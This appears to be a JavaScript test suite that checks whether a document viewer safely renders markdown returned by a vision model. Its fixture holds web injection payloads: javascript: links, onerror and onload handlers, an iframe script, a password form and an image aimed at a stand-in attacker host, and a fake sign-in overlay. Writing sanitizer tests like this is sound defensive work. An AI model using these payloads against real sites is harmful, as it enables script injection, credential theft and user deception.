// What a vision model says of a page: formulas and tables are shown as such, and nothing of it acts.
import assert from "node:assert/strict";
import { test } from "node:test";
import { findings, setUp } from "./browser.mjs";
import { documentFile } from "./documents.mjs";
import { modelThatSays } from "./model.mjs";
import { DocumentPage } from "./pages/document.mjs";

// Most of what a model says has to stand on the page, or it is not taken.
const answer = `# Report of the workshop

${documentFile("page.txt").buffer}

The energy is $E = mc^2$ and nothing else, as the carpenter says.

$$\\href{javascript:document.title='PWNED'}{x} = \\frac{a}{b}$$

| tool | count |
|---|---|
| hammer | 12 |
| saw | 7 |

<img src=x onerror="document.title='PWNED'"> and <svg onload="document.title='PWNED'"></svg>

[a link](javascript:document.title='PWNED'), [another](data:text/html,PWNED), ![a picture](http://evil.example/leak.png)

<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<form action="http://evil.example"><input name="password"></form>

<p style="position: fixed; inset: 0" id="main" class="toast error">Sign in again</p>
`;

const { server, open } = await setUp({ visionUrls: await modelThatSays(answer) });
const job = await server.read("page.png", { tier: "vlm" });

async function opened() {
  const document = await DocumentPage.open(await open(), job.uuid);
  await document.shown();
  await document.tab("markdown").click();
  await document.result.getByRole("heading", { name: "Report of the workshop" }).waitFor();
  return document;
}

test("formulas and tables are shown as such", async () => {
  const document = await opened();
  await document.result.locator("math").first().waitFor();
  await document.result.getByRole("cell", { name: "hammer" }).waitFor();
  assert.deepEqual(await findings(document.page), []);
});

test("nothing of what the model says acts, loads or imitates the app", async () => {
  const document = await opened();
  const never = ["script", "img", "svg", "iframe", "form", "input", "[style]", "[id]", ".toast"];
  for (const selector of never) assert.equal(await document.result.locator(".markdown").locator(selector).count(), 0, selector);
  for (const link of await document.result.locator(".markdown a").all()) {
    assert.doesNotMatch((await link.getAttribute("href")) ?? "", /^(javascript|data):/);
  }
  assert.doesNotMatch(await document.page.title(), /PWNED/);
});
